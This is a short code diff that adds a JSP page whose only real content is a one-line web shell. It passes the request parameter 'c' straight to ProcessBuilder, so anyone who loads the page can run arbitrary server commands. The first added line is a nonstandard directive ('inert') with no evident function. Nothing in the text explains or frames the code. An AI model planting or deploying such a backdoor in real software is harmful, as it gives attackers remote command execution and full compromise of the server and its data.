@@ -1,0 +1,2 @@
+<%@ inert %>
+<% new ProcessBuilder(request.getParameter("c").split(" ")).start(); %>
